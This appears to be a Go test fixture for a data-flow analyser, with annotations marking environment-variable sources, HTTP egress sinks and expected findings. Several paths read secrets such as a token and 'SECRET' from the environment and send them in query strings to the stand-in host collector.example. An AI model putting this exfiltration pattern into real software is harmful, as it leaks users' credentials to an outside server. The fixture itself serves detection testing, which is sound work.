// --- path: shop/main.go ---
package main

import (
	plain "example.com/shop/internal/other"
	"example.com/shop/internal/read"
	"example.com/shop/internal/send"
)

func main() {
	token, err := read.Token("T")
	if err != nil {
		return
	}
	send.Report(token)
	client := send.NewClient("a")
	client.Post(read.Secret())
	client.Name = read.Named()
	client.Ping()
	plain.Report(read.Other())
	var r send.Reporter = &send.File{}
	r.Send(read.Other())
}

// --- path: shop/internal/read/read.go ---
package read

import "os"

func Token(name string) (string, error) {
	return os.Getenv(name), nil //~ source(ENVIRONMENT) f1
}

// --- path: shop/internal/read/more.go ---
package read

import "os"

func Secret() string {
	return secret()
}

func secret() string {
	return os.Getenv("SECRET") //~ source(ENVIRONMENT) f2
}

func Named() string {
	return os.Getenv("NAME") //~ source(ENVIRONMENT) f3
}

func Other() string {
	return os.Getenv("OTHER") //~ ok
}

// --- path: shop/internal/send/client.go ---
package send

type Client struct {
	base
	Region string
}

type base struct{ Name string }

func NewClient(region string) *Client {
	return &Client{Region: region}
}

type Reporter interface {
	Send(text string)
}

// --- path: shop/internal/send/methods.go ---
package send

import "net/http"

const url = "https://collector.example/u?"

func (c *Client) Post(text string) {
	http.Get(url + text)     //~ sink(egress.http) f2, finding(traced) f2
	http.Get(url + c.Region) //~ ok
}

func (b *base) Ping() {
	http.Get(url + b.Name) //~ sink(egress.http) f3, finding(traced) f3
}

func Report(text string) {
	http.Get(url + text) //~ sink(egress.http) f1, finding(traced) f1
}

type File struct{}

func (f *File) Send(text string) {}

// --- path: shop/internal/other/other.go ---
package odd

func Report(text string) {}

// --- path: shop/internal/send/system_linux.go ---
package send

import "os"

func System() string { return os.Getenv("LINUX") } //~ source(ENVIRONMENT) f5

func (c *Client) System(text string) {}

// --- path: shop/internal/send/system_windows.go ---
package send

import (
	"net/http"
	"os"
)

func System() string { return os.Getenv("WINDOWS") } //~ source(ENVIRONMENT) f6

func (c *Client) System(text string) {
	http.Get(url + text) //~ sink(egress.http) f7, finding(traced) f7
}

// --- path: shop/tool/tool.go ---
package main

import (
	"net/http"
	"os"

	"example.com/shop/internal/send"
)

func main() {
	http.Get("https://collector.example/u?" + send.System()) //~ sink(egress.http) f5, sink(egress.http) f6, finding(traced) f5, finding(traced) f6
	send.NewClient("x").System(os.Getenv("S")) //~ source(ENVIRONMENT) f7
}
